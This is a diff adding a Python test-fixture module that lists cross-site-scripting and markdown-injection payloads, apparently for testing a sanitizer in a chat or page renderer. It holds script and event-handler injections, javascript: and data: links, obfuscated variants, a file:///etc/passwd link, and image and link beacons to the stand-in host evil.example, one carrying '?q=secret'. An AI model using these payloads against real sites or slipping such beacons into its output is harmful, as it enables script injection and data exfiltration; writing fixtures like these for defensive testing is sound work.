@@ -1,0 +1,100 @@
+"""Texts that try to become something else on a web page: markup, links that run, pictures that report, and ways to hide all three.
+
+`ran()` is what each of them tries to call; `.example` is where each of them tries to report to.
+"""
+
+from __future__ import annotations
+
+_AWAY = "https://evil.example"
+
+MARKUP = (
+    "<script>ran()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>ran()</scr</script>ipt>",
+    "<img src=x onerror=ran()>",
+    "<img src=x onerror='ran()' />",
+    '<img src="x" onerror="&#114;an()">',
+    f"<img src={_AWAY}/p.png>",
+    f'<img srcset="{_AWAY}/p.png 1x">',
+    "<svg onload=ran()>",
+    "<svg><script>ran()</script></svg>",
+    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
+    '<svg><a xlink:href="javascript:ran()"><text x=0 y=20>x</text></a></svg>',
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=ran()></style></mglyph></math>",
+    "<iframe src=javascript:ran()></iframe>",
+    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+    f"<iframe src={_AWAY}></iframe>",
+    "<object data=javascript:ran()></object>",
+    f"<embed src={_AWAY}/x.swf>",
+    "<body onload=ran()>",
+    "<details open ontoggle=ran()>x</details>",
+    "<video><source onerror=ran()></video>",
+    f"<video poster={_AWAY}/p.png></video>",
+    f"<audio src={_AWAY}/a.mp3 autoplay></audio>",
+    "<input autofocus onfocus=ran()>",
+    "<select autofocus onfocus=ran()></select>",
+    "<textarea autofocus onfocus=ran()></textarea>",
+    "<marquee onstart=ran()>x</marquee>",
+    f"<link rel=stylesheet href={_AWAY}/x.css>",
+    f"<style>@import '{_AWAY}/x.css';</style>",
+    f"<div style='background:url({_AWAY}/p.png)'>x</div>",
+    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
+    f"<base href={_AWAY}>",
+    f"<form action={_AWAY}><button>x</button></form>",
+    "<button onclick=ran()>x</button>",
+    "<a href=javascript:ran()>x</a>",
+    "<template shadowrootmode=open><script>ran()</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
+    "<!--<img src='--><img src=x onerror=ran()>'>",
+    "<![CDATA[<img src=x onerror=ran()>]]>",
+    "</article></div><img src=x onerror=ran()>",
+    "'\"><img src=x onerror=ran()>",
+    "<x/onclick=ran()>x</x>",
+    "<p is=career-chat onclick=ran()>x",
+    f"<career-chat endpoint={_AWAY} mode=inline></career-chat>",
+    "${ran()} {{ran()}} <%= ran() %> #{ran()}",
+    "<img src=x onerror\x09=ran()>",
+    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
+    "<scr\u200bipt>ran()</scr\u200bipt>",
+    "\u202e<script>ran()</script>",
+)
+
+LINKS = (
+    "[x](javascript:ran())",
+    "[x](JaVaScRiPt:ran())",
+    "[x](java\tscript:ran())",
+    "[x](java&#10;script:ran())",
+    "[x](&#106;avascript:ran())",
+    "[x]( javascript:ran() )",
+    "[x](<javascript:ran()>)",
+    "[x](\x01javascript:ran())",
+    "[x](data:text/html,<script>ran()</script>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:ran())",
+    "[x](blob:https://evil.example/1)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/x)",
+    "[x](?q=x#javascript:ran())",
+    '[x](javascript:ran() "title")',
+    '[x](https://example.org" onmouseover="ran())',
+    "[<img src=x onerror=ran()>](https://example.org)",
+    "[x][1]\n\n[1]: javascript:ran()",
+    "<javascript:ran()>",
+    "**[x](javascript:ran())**",
+    "- [x](javascript:ran())",
+    "[1](javascript:ran())",
+    "[1] [999] [-1] [1e3]",
+    "javascript:ran()",
+)
+
+PICTURES = (
+    f"![x]({_AWAY}/p.png)",
+    f"![x](<{_AWAY}/p.png>)",
+    f"[![x]({_AWAY}/p.png)](https://example.org)",
+    f"![x][1]\n\n[1]: {_AWAY}/p.png",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+)",
+    f"<{_AWAY}/p.png>",
+    f"**![x]({_AWAY}/p.png?q=secret)**",
+)
+
+ATTACKS = (*MARKUP, *LINKS, *PICTURES)
